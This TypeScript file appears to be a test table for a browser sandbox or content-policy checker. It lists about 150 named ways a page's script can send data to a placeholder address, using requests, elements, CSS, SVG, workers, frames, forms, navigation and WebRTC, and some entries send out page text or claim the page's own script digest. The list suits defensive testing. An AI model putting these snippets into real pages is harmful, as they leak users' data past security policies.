// oxlint-disable eslint/max-lines -- one table

/**
 * A way for a page to send data out. `js` runs in the page. `to` is an address that counts requests, `host` its host
 * and port, and `udp` its datagram counterpart. `add` inserts an element with attributes, `svg` an SVG element.
 * `ownDigest` returns the digest of the page's script in the form of `integrity`.
 */
export type Way = {
  name: string;
  js: string;
  /** Navigates the page that holds the frame. */
  top?: boolean;
  /** The test browser sends nothing in this way, even without restrictions. */
  unseen?: boolean;
};

const element = (
  name: string,
  tag: string,
  attributes: Record<string, string>,
  more: Partial<Way> = {},
): Way => ({
  name,
  js: `add("${tag}", ${JSON.stringify(attributes).replaceAll('"TO', 'to + "')})`,
  ...more,
});
const style = (name: string, css: string, more: Partial<Way> = {}): Way => ({
  name,
  js: `add("style", {}, \`${css.replaceAll("TO", "${to}")}\`); add("div", { class: "styled" }, "x")`,
  ...more,
});
const rtc = (name: string, js: string, more: Partial<Way> = {}): Way => ({
  name: `WebRTC: ${name}`,
  js,
  ...more,
});
const peer = (url: string) =>
  `const peer = new (globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection)({ iceServers: [${url}] });` +
  `peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); globalThis.kept = [...(globalThis.kept ?? []), peer]`;
const stun = peer('{ urls: "stun:" + udp }');
const inner = (how: string, script: string) =>
  `const text = "<script>" + ${script} + "</scr" + "ipt>"; ${how}`;
const innerFetch = "\"fetch('\" + to + \"', { mode: 'no-cors' })\"";
const innerStun = `"new RTCPeerConnection({ iceServers: [{ urls: 'stun:" + udp + "' }] }).createDataChannel('x')"`;

const requests: Way[] = [
  { name: "fetch", js: `fetch(to, { mode: "no-cors" })` },
  { name: "fetch of POST", js: `fetch(to, { method: "POST", mode: "no-cors", body: "x" })` },
  { name: "fetch that outlives the page", js: `fetch(to, { mode: "no-cors", keepalive: true })` },
  { name: "fetchLater", js: `fetchLater(to, { activateAfter: 0 })`, unseen: true },
  { name: "XMLHttpRequest", js: `const sent = new XMLHttpRequest(); sent.open("GET", to); sent.send()` },
  {
    name: "XMLHttpRequest that waits",
    js: `const sent = new XMLHttpRequest(); sent.open("GET", to, false); sent.send()`,
  },
  { name: "sendBeacon", js: `navigator.sendBeacon(to, "x")` },
  { name: "WebSocket", js: `new WebSocket(to.replace("http", "ws"))` },
  { name: "EventSource", js: `new EventSource(to)` },
  { name: "WebTransport", js: `new WebTransport("https://" + udp + "/")` },
  { name: "import()", js: `import(to)` },
  { name: "new Image", js: `new Image().src = to` },
  { name: "new Audio", js: `new Audio(to).load()` },
  { name: "FontFace", js: `new FontFace("leak", "url(" + to + ")").load()` },
  {
    name: "createImageBitmap of a fetch",
    js: `fetch(to, { mode: "no-cors" }).then((reply) => reply.blob()).then(createImageBitmap)`,
  },
  { name: "WebAssembly.instantiateStreaming", js: `WebAssembly.instantiateStreaming(fetch(to))` },
  {
    name: "CSP report by a meta element",
    js: `add("meta", { "http-equiv": "Content-Security-Policy", content: "img-src 'none'; report-uri " + to }); new Image().src = "data:,"`,
    unseen: true,
  },
  {
    name: "ReportingObserver",
    js: `new ReportingObserver(() => fetch(to, { mode: "no-cors" }), { buffered: true }).observe(); navigator.sendBeacon(to)`,
  },
];

const elements: Way[] = [
  element("img", "img", { src: "TO" }),
  element("img with a srcset", "img", { srcset: "TO 1x" }),
  element(
    "picture",
    "picture",
    {},
    { js: `add("picture", {}).innerHTML = "<source srcset=" + to + "><img>"` },
  ),
  element("input of type image", "input", { type: "image", src: "TO" }),
  element("video", "video", { src: "TO", preload: "auto" }),
  element("poster of a video", "video", { poster: "TO" }),
  element("audio", "audio", { src: "TO", preload: "auto" }),
  { name: "source of a video", js: `add("video", {}).append(make("source", { src: to }))` },
  {
    name: "track of a video",
    js: `const video = add("video", {}); video.append(make("track", { src: to, default: "", kind: "captions" })); video.textTracks[0].mode = "showing"`,
    unseen: true,
  },
  element("embed", "embed", { src: "TO" }),
  element("object", "object", { data: "TO" }),
  element("script", "script", { src: "TO" }),
  element("module script", "script", { src: "TO", type: "module" }),
  { name: "script inline", js: `add("script", {}, "fetch('" + to + "', { mode: 'no-cors' })")` },
  { name: "module inline", js: `add("script", { type: "module" }, "import '" + to + "'")` },
  {
    name: "import map",
    js: `add("script", { type: "importmap" }, JSON.stringify({ imports: { leak: to } })); import("leak")`,
  },
  element("frame", "iframe", { src: "TO" }),
  element("background of the body", "body", {}, { js: `document.body.setAttribute("background", to)` }),
  element("background of a table", "table", { background: "TO" }),
  {
    name: "event attribute",
    js: `add("div", {}).innerHTML = "<img src=data:, onerror=\\"fetch('" + to + "', { mode: 'no-cors' })\\">"`,
  },
  {
    name: "base, and then an image",
    js: `document.head.append(make("base", { href: to + "/" })); add("img", { src: "x" })`,
  },
  { name: "portal", js: `add("portal", { src: to })`, unseen: true },
  {
    name: "frameset",
    js: `add("div", {}).innerHTML = "<frameset><frame src=" + to + "></frameset>"`,
    unseen: true,
  },
  {
    name: "element made by a parser",
    js: `document.body.append(...new DOMParser().parseFromString("<img src=" + to + ">", "text/html").body.children)`,
  },
  {
    name: "setHTMLUnsafe",
    js: `add("div", {}).setHTMLUnsafe("<template shadowrootmode=open><img src=" + to + "></template>")`,
    unseen: true,
  },
  { name: "manifest", js: `document.head.append(make("link", { rel: "manifest", href: to }))`, unseen: true },
];

const links: Way[] = [
  "stylesheet",
  "icon",
  "preload",
  "prefetch",
  "modulepreload",
  "preconnect",
  "dns-prefetch",
  "prerender",
  "alternate stylesheet",
  "apple-touch-icon",
  "expect",
].map((rel) => ({
  name: `link: ${rel}`,
  js: `document.head.append(make("link", { rel: "${rel}", href: to, as: "${rel === "preload" ? "image" : "script"}" }))`,
  // The page that holds the frame loads the icons. A DNS lookup reaches no test server.
  unseen: /icon|connect|dns|prerender|expect/.test(rel),
}));

/** Requests of an external script that claims the digest of the page's own script, which its policy admits. */
const claimedDigest = (name: string, tag: "script" | "link", attributes: Record<string, string>): Way => ({
  name: `own digest: ${name}`,
  js: `ownDigest().then((integrity) => document.head.append(make("${tag}", { ...${JSON.stringify(attributes)}, ${tag === "link" ? "href" : "src"}: to, integrity })))`,
});

const claimedDigests: Way[] = [
  claimedDigest("script", "script", { crossorigin: "anonymous" }),
  claimedDigest("script without CORS", "script", {}),
  claimedDigest("module", "script", { type: "module" }),
  claimedDigest("preload", "link", { rel: "preload", as: "script", crossorigin: "anonymous" }),
  claimedDigest("modulepreload", "link", { rel: "modulepreload" }),
  {
    name: "own digest: import map",
    js: `ownDigest().then((integrity) => { add("script", { type: "importmap" }, JSON.stringify({ integrity: { [to]: integrity } })); import(to) })`,
  },
  {
    name: "own digest: SVG script",
    js: `ownDigest().then((integrity) => svg("script", { href: to, integrity }))`,
  },
];

const hints: Way[] = [
  {
    name: "speculation rules: prefetch",
    js: `add("script", { type: "speculationrules" }, JSON.stringify({ prefetch: [{ urls: [to] }] }))`,
    unseen: true,
  },
  {
    name: "speculation rules: prerender",
    js: `add("script", { type: "speculationrules" }, JSON.stringify({ prerender: [{ urls: [to] }] }))`,
    unseen: true,
  },
  {
    name: "link that is pointed at",
    js: `add("a", { href: to }, "x").dispatchEvent(new PointerEvent("pointerover", { bubbles: true }))`,
    unseen: true,
  },
  {
    name: "meta: link header",
    js: `document.head.append(make("meta", { "http-equiv": "Link", content: "<" + to + ">; rel=preconnect" }))`,
    unseen: true,
  },
  { name: "attribution source", js: `add("img", { attributionsrc: to, src: "data:," })`, unseen: true },
];

const styles: Way[] = [
  style("style: background", ".styled { background: url(TO) }"),
  style("style: @import", "@import url(TO);"),
  style("style: @font-face", "@font-face { font-family: leak; src: url(TO) } .styled { font-family: leak }"),
  style("style: list-style", ".styled { display: list-item; list-style: url(TO) }"),
  style("style: content", ".styled::before { content: url(TO) }"),
  style("style: cursor", ".styled { cursor: url(TO), auto }"),
  style("style: border-image", ".styled { border: 1px solid; border-image: url(TO) 1 }"),
  style("style: mask", ".styled { mask: url(TO) }"),
  style("style: filter", ".styled { filter: url(TO#a) }", { unseen: true }),
  style("style: clip-path", ".styled { clip-path: url(TO#a) }"),
  style("style: image-set", '.styled { background: image-set("TO" 1x) }'),
  style("style: cross-fade", ".styled { background: -webkit-cross-fade(url(TO), url(data:,), 50%) }"),
  style("style: shape-outside", ".styled { float: left; shape-outside: url(TO) }"),
  style("style: variable", ".styled { --leak: url(TO); background: var(--leak) }"),
  { name: "style: attribute", js: `add("div", { style: "background: url(" + to + ")" }, "x")` },
  {
    name: "style: constructed sheet",
    js: `const sheet = new CSSStyleSheet(); sheet.replaceSync(".leak-sheet { background: url(" + to + ") }"); document.adoptedStyleSheets.push(sheet); add("div", { class: "leak-sheet" }, "x")`,
  },
  {
    name: "style: view of typed text",
    js: `add("style", {}, "input[value^=a] { background: url(" + to + ") }"); add("input", { value: "a" })`,
  },
];

const drawings: Way[] = [
  { name: "SVG: image", js: `svg("image", { href: to, width: 9, height: 9 })` },
  {
    name: "SVG: feImage",
    js: `svg("filter", { id: "leak" }).append(makeSvg("feImage", { href: to })); svg("rect", { filter: "url(#leak)", width: 9, height: 9 })`,
  },
  { name: "SVG: use", js: `svg("use", { href: to + "#a" })`, unseen: true },
  { name: "SVG: script", js: `svg("script", { href: to })` },
  { name: "SVG: style", js: `svg("style", {}).textContent = "@import url(" + to + ");"` },
  {
    name: "SVG: foreignObject",
    js: `svg("foreignObject", { width: 9, height: 9 }).append(make("img", { src: to }))`,
  },
  {
    name: "SVG: animated address",
    js: `const image = svg("image", { width: 9, height: 9 }); image.append(makeSvg("set", { attributeName: "href", to }))`,
  },
  {
    name: "SVG in an image from a data URL",
    js: `add("img", { src: "data:image/svg+xml," + encodeURIComponent("<svg xmlns='http://www.w3.org/2000/svg'><image href='" + to + "'/></svg>") })`,
    unseen: true,
  },
  {
    name: "XML: stylesheet",
    js: `add("iframe", { src: "data:text/xml," + encodeURIComponent("<?xml-stylesheet href='" + to + "'?><x/>") })`,
  },
  {
    name: "XML: entity",
    js: `new DOMParser().parseFromString("<!DOCTYPE x [<!ENTITY e SYSTEM '" + to + "'>]><x>&e;</x>", "text/xml")`,
    unseen: true,
  },
  { name: "MathML", js: `add("div", {}).innerHTML = "<math><mtext><img src=" + to + "></mtext></math>"` },
];

const workers: Way[] = [
  { name: "worker", js: `new Worker(URL.createObjectURL(new Blob([${innerFetch}])))` },
  {
    name: "worker from a data URL",
    js: `new Worker("data:text/javascript," + encodeURIComponent(${innerFetch}))`,
  },
  {
    name: "shared worker",
    js: `new SharedWorker("data:text/javascript," + encodeURIComponent(${innerFetch}))`,
  },
  {
    name: "worker that imports",
    js: `new Worker("data:text/javascript," + encodeURIComponent("importScripts('" + to + "')"))`,
  },
  { name: "service worker", js: `navigator.serviceWorker.register(to)`, unseen: true },
  { name: "audio worklet", js: `new AudioContext().audioWorklet.addModule(to)` },
  { name: "paint worklet", js: `CSS.paintWorklet.addModule(to)`, unseen: true },
  { name: "shared storage", js: `sharedStorage.worklet.addModule(to)`, unseen: true },
];

const frames: Way[] = [
  { name: "frame: srcdoc", js: inner(`add("iframe", { srcdoc: text })`, innerFetch) },
  { name: "frame: srcdoc with an image", js: `add("iframe", { srcdoc: "<img src=" + to + ">" })` },
  {
    name: "frame: srcdoc with our own script",
    js: `add("iframe", { srcdoc: "<script>" + document.ownScript + "</scr" + "ipt>" }); add("iframe", { srcdoc: "<img src=" + to + ">" })`,
  },
  {
    name: "frame: blob",
    js: inner(
      `add("iframe", { src: URL.createObjectURL(new Blob([text], { type: "text/html" })) })`,
      innerFetch,
    ),
  },
  {
    name: "frame: data",
    js: inner(`add("iframe", { src: "data:text/html," + encodeURIComponent(text) })`, innerFetch),
  },
  {
    name: "frame: javascript",
    js: `add("iframe", { src: "javascript:fetch('" + to + "', { mode: 'no-cors' })" })`,
  },
  {
    name: "frame: written into",
    js: inner(`const frame = add("iframe", {}); frame.contentDocument.write(text)`, innerFetch),
  },
  {
    name: "frame: fetch of its window",
    js: `add("iframe", {}).contentWindow.fetch(to, { mode: "no-cors" })`,
  },
  { name: "frame: sent elsewhere", js: `add("iframe", {}).contentWindow.location = to` },
  { name: "frame: fenced", js: `add("fencedframe", {}).config = new FencedFrameConfig(to)`, unseen: true },
  {
    name: "object: data",
    js: inner(
      `add("object", { type: "text/html", data: "data:text/html," + encodeURIComponent(text) })`,
      innerFetch,
    ),
  },
];

const sent: Way[] = [
  {
    name: "form",
    js: `const frame = add("iframe", { name: "form-target" }); const form = add("form", { action: to, method: "post", target: "form-target" }); form.submit()`,
  },
  {
    name: "form of GET",
    js: `add("iframe", { name: "form-get" }); add("form", { action: to, target: "form-get" }).submit()`,
  },
  {
    name: "form that is asked to submit",
    js: `add("iframe", { name: "form-asked" }); add("form", { action: to, target: "form-asked" }).requestSubmit()`,
  },
  {
    name: "ping of a link",
    js: `add("iframe", { name: "ping-target" }); add("a", { href: "about:blank#", ping: to, target: "ping-target" }, "x").click()`,
  },
  { name: "window.open", js: `open(to)` },
  { name: "window.open without opener", js: `open(to, "_blank", "noopener")` },
  { name: "link into a new window", js: `add("a", { href: to, target: "_blank" }, "x").click()` },
  { name: "download", js: `add("a", { href: to, download: "x" }, "x").click()` },
  { name: "protocol handler", js: `navigator.registerProtocolHandler("web+leak", to + "/%s")`, unseen: true },
  { name: "share", js: `navigator.share({ url: to })`, unseen: true },
  {
    name: "payment",
    js: `new PaymentRequest([{ supportedMethods: to }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment()`,
    unseen: true,
  },
  {
    name: "sign-in by a provider",
    js: `navigator.credentials.get({ identity: { providers: [{ configURL: to, clientId: "x" }] } })`,
    unseen: true,
  },
  { name: "presentation", js: `new PresentationRequest(to).getAvailability()`, unseen: true },
];

const away: Way[] = [
  { name: "top.location", js: `top.location = to`, top: true },
  { name: "parent.location", js: `parent.location = to`, top: true },
  { name: "link to the top", js: `add("a", { href: to, target: "_top" }, "x").click()`, top: true },
  { name: "form to the top", js: `add("form", { action: to, target: "_top" }).submit()`, top: true },
  { name: "location", js: `location = to` },
  { name: "location.assign", js: `location.assign(to)` },
  { name: "location.replace", js: `location.replace(to)` },
  {
    name: "location.href with what was read",
    js: `location.href = to + "?" + encodeURIComponent(document.body.textContent.slice(0, 99))`,
  },
  { name: "navigation.navigate", js: `navigation.navigate(to)` },
  { name: "link", js: `add("a", { href: to }, "x").click()` },
  { name: "form to itself", js: `add("form", { action: to }).submit()` },
  {
    name: "meta refresh",
    js: `document.head.append(make("meta", { "http-equiv": "refresh", content: "0; url=" + to }))`,
  },
  { name: "window.open of itself", js: `open(to, "_self")` },
  {
    name: "document that is opened",
    js: `document.open(); document.write("<meta http-equiv=refresh content='0; url=" + to + "'><img src=" + to + ">"); document.close()`,
  },
];

const calls: Way[] = [
  rtc("STUN", stun),
  rtc("TURN over UDP", peer('{ urls: "turn:" + udp, username: "x", credential: "x" }')),
  rtc("TURN over TCP", peer('{ urls: "turn:" + host + "?transport=tcp", username: "x", credential: "x" }')),
  rtc("an address of an answer", `${peer("")}; peer.setRemoteDescription({ type: "answer", sdp: "" })`, {
    unseen: true,
  }),
  rtc(
    "through a frame",
    `const { RTCPeerConnection: Own } = add("iframe", {}).contentWindow; new Own({ iceServers: [{ urls: "stun:" + udp }] }).createDataChannel("x")`,
    { unseen: true },
  ),
  rtc(
    "through a frame's document",
    inner(
      `add("iframe", { srcdoc: text })`,
      `"const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:" + udp + "' }] }); peer.createDataChannel('x'); peer.setLocalDescription()"`,
    ),
  ),
  rtc(
    "through a frame from a data URL",
    inner(
      `add("iframe", { src: "data:text/html," + encodeURIComponent(text) })`,
      `"const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:" + udp + "' }] }); peer.createDataChannel('x'); peer.setLocalDescription()"`,
    ),
  ),
  rtc(
    "through a prototype",
    `const Own = Object.getOwnPropertyNames(globalThis).map((name) => { try { return globalThis[name]; } catch {} }).find((one) => one?.prototype?.createDataChannel) ?? globalThis.RTCDataChannel.prototype.constructor; const peer = new Own({ iceServers: [{ urls: "stun:" + udp }] }); peer.createDataChannel("x"); peer.setLocalDescription()`,
  ),
  rtc("in a worker", `new Worker("data:text/javascript," + encodeURIComponent(${innerStun}))`, {
    unseen: true,
  }),
];

/** All ways, each with a unique name. */
export const leakWays: readonly Way[] = [
  ...requests,
  ...elements,
  ...links,
  ...claimedDigests,
  ...hints,
  ...styles,
  ...drawings,
  ...workers,
  ...frames,
  ...sent,
  ...away,
  ...calls,
];
